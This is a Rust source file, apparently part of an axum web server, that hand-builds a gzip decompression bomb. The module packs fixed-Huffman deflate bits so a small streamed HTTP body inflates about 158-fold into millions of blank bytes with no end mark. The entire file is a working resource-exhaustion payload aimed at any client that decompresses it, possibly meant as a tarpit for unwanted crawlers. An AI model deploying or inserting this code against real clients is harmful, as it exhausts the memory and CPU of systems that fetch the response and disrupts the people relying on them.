//! A small body that inflates into a large one.

use std::convert::Infallible;

use axum::body::Bytes;
use futures_util::Stream;
use futures_util::stream;

/// RFC 1952: deflate, no flags, no time, unknown system.
const GZIP_HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
/// RFC 1951 3.2.6, in the order of the stream: last block, fixed codes; the literal blank; "the last byte, 258 times
/// more". 24 bits: what follows begins on a byte.
const FIRST_BITS: &str = concat!("1", "10", "01010000", "11000101", "00000");
/// "The last byte, 258 times more" in 13 bits; eight of them are 13 whole bytes, and inflate to 2064.
const REPEAT_BITS: &str = concat!("11000101", "00000");
const CYCLE_BYTES_INFLATED: u64 = 8 * 258;
/// So many cycles go out at once: 53 kB, inflated 8.5 MB.
const CYCLES_A_CHUNK: u64 = 4096;

/// At least `bytes_inflated` blanks in a gzip stream 158 times smaller. Written by hand, as a compressor would take
/// seconds for what is one repeated pattern. The stream has no end mark: nobody is meant to reach it.
pub(super) fn gzip_bomb(bytes_inflated: u64) -> impl Stream<Item = Result<Bytes, Infallible>> {
    let head = [GZIP_HEADER.as_slice(), &pack(FIRST_BITS)].concat();
    let cycle = pack(&REPEAT_BITS.repeat(8));
    let cycles = bytes_inflated.div_ceil(CYCLE_BYTES_INFLATED);
    let full: Bytes = cycle.repeat(4096).into();
    let chunks = cycles / CYCLES_A_CHUNK;
    let rest = (0..cycles % CYCLES_A_CHUNK).flat_map(|_| cycle.clone()).collect::<Vec<_>>();
    let body = (0..chunks).map(move |_| full.clone());
    stream::iter(std::iter::once(head.into()).chain(body).chain([rest.into()]).map(Ok))
}

/// RFC 1951 3.1.1: bits fill each byte from its least significant end.
fn pack(bits: &str) -> Vec<u8> {
    bits.as_bytes()
        .chunks(8)
        .map(|byte| byte.iter().rev().fold(0, |packed, bit| packed << 1 | u8::from(*bit == b'1')))
        .collect()
}
